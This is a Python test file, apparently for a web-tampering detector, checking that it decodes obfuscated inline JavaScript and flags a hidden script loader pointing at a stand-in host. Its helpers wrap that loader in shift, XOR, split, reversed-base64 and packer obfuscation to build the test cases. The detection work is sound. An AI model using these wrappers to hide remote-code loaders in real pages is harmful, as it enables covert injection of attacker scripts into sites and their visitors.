"""Deobfuscation: addresses an inline script builds at run time are read without running it, and
the loader is strong evidence on a site that never had it, whatever the transformation's key."""

from __future__ import annotations

import base64
import json
import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tamperwatch.detect.deobfuscate import decoded_texts, has_address
from tamperwatch.detect.foreign_injection import ForeignInjectionDetector

from .synthetic import news_page, page
from .test_foreign_injection import trusted_part

ADDRESS = "https://lib.quartz-relay.example/boot.js"
LOADER = f"var e=document.createElement('script');e.src='{ADDRESS}';document.head.appendChild(e);"


def shifted(text: str, shift: int) -> str:
    codes = ",".join(str(ord(ch) + shift) for ch in text)
    return f"eval([{codes}].map(function(n){{return String.fromCharCode(n-{shift})}}).join(''))"


def xored(text: str, key: int) -> str:
    codes = ",".join(str(ord(ch) ^ key) for ch in text)
    return f"eval([{codes}].map(function(n){{return String.fromCharCode(n^{key})}}).join(''))"


def split(text: str, every: int) -> str:
    pieces = "+".join(json.dumps(text[i : i + every]) for i in range(0, len(text), every))
    return f"new Function({pieces})()"


def backwards_base64(text: str) -> str:
    blob = base64.b64encode(text.encode()).decode()[::-1]
    return f"eval(atob('{blob}'.split('').reverse().join('')))"


@settings(max_examples=40, deadline=None)
@given(shift=st.integers(min_value=-20, max_value=20).filter(bool))
def test_character_codes_shifted_by_any_key_are_read(shift: int) -> None:
    assert any(ADDRESS in text for text in decoded_texts(shifted(LOADER, shift)))


@settings(max_examples=40, deadline=None)
@given(key=st.integers(min_value=1, max_value=255))
def test_character_codes_xored_with_any_key_are_read(key: int) -> None:
    assert any(ADDRESS in text for text in decoded_texts(xored(LOADER, key)))


@settings(max_examples=40, deadline=None)
@given(every=st.integers(min_value=2, max_value=9))
def test_literals_cut_into_pieces_are_joined(every: int) -> None:
    assert any(ADDRESS in text for text in decoded_texts(split(LOADER, every)))


def test_backwards_base64_and_backwards_text_are_read() -> None:
    assert any(ADDRESS in text for text in decoded_texts(backwards_base64(LOADER)))
    backwards = f"var u='{ADDRESS[::-1]}'.split('').reverse().join('')"
    assert any(ADDRESS in text for text in decoded_texts(backwards))


def test_ordinary_code_yields_no_address() -> None:
    """Bundle-like code: number arrays read by fromCharCode, strings turned round, literals joined,
    addresses written forwards: nothing decoded holds an address the code does not show."""
    code = (
        "var t=[3,5,8,13,21,34,55,89,144].reduce(function(a,b){return a+b},0);el.textContent='Sum: '+t;"
        "var glyphs=[58,47,47,104,116,116,112,58,47,47,58,47,47];String.fromCharCode.apply(null,glyphs);"
        "var ids='nav-main,nav-footer,nav-side'.split(',').reverse();"
        "var doc='https://www.example.com//files/report.pdf';var s='mysite.com//help'.split('').reverse();"
        "var label='Read ' + 'more' + ' about it';"
    )
    decoded = [t for t in decoded_texts(code) if has_address(t)]
    hidden = [t for t in decoded if "example.com" not in t and "mysite.com" not in t]
    assert hidden == []
    assert not any("moc." in t for t in decoded_texts(code))


def test_number_arrays_cost_a_bounded_number_of_decodings(monkeypatch: pytest.MonkeyPatch) -> None:
    """A hostile script of arrays shaped like '://' under many keys is decoded a bounded number of
    times (each key once, and only where the numbers before spell a scheme)."""
    from tamperwatch.detect import deobfuscate

    calls = 0
    real_apply = deobfuscate._apply

    def counting(numbers: list[int], key: object) -> str:
        nonlocal calls
        calls += 1
        return real_apply(numbers, key)  # type: ignore[arg-type]

    monkeypatch.setattr(deobfuscate, "_apply", counting)
    hostile = "String.fromCharCode;" + ";".join(
        "[" + ",".join(["58,47,47"] * 1000) + "]" for _ in range(20)
    )
    deobfuscate.decoded_texts(hostile)
    assert calls <= 2 * deobfuscate.MAX_SHIFT + deobfuscate.MAX_XOR_KEY + 2


@pytest.mark.parametrize(
    "script",
    [
        f"<script>{shifted(LOADER, 7)}</script>",
        f"<script>{xored(LOADER, 42)}</script>",
        f"<script>{split(LOADER, 5)}</script>",
        f"<script>{backwards_base64(LOADER)}</script>",
        (  # the address in a data- attribute, decoded by the script
            f'<div id="cfg" hidden data-boot="{base64.urlsafe_b64encode(ADDRESS.encode()).decode()}"></div>'
            "<script>var s=document.createElement('script');"
            "s.src=atob(document.getElementById('cfg').dataset.boot);document.body.appendChild(s);</script>"
        ),
    ],
)
def test_a_hidden_loader_on_a_site_that_never_had_one_is_decisive(script: str) -> None:
    det = ForeignInjectionDetector()
    [finding] = det.detect(trusted_part(det), page(news_page(9, body_extra=script)))
    assert finding.score >= 0.5 and "quartz-relay.example" in finding.reason
    assert "hides" in finding.reason


@settings(max_examples=30, deadline=None)
@given(seed=st.randoms(use_true_random=False))
def test_positions_into_a_scrambled_string_are_read(seed: random.Random) -> None:
    """``[1,12,12,...].map(k => pool.charAt(k))``: the address is picked letter by letter from a
    literal holding its letters in any order."""
    pool = sorted(set(ADDRESS))
    seed.shuffle(pool)
    positions = ",".join(str(pool.index(ch)) for ch in ADDRESS)
    code = (
        "(function(a,i){var u=i.map(function(k){return a.charAt(k)}).join('');"
        "var s=document.createElement('script');s.src=u;document.body.appendChild(s);})"
        f"({json.dumps(''.join(pool))},[{positions}]);"
    )
    assert ADDRESS in decoded_texts(code)


def packed(code: str) -> str:
    """``code`` as Dean Edwards' packer writes it (base 62; words replaced by their numbers)."""
    digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"

    def name(n: int) -> str:
        return (name(n // 62) if n >= 62 else "") + digits[n % 62]

    words = list(dict.fromkeys(re.findall(r"\b\w+\b", code)))
    body = re.sub(r"\b\w+\b", lambda m: name(words.index(m.group(0))), code).replace("'", "\\'")
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};"
        "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
        f"('{body}',62,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


def test_code_packed_by_the_packer_is_unpacked() -> None:
    assert any(ADDRESS in text for text in decoded_texts(packed(LOADER)))
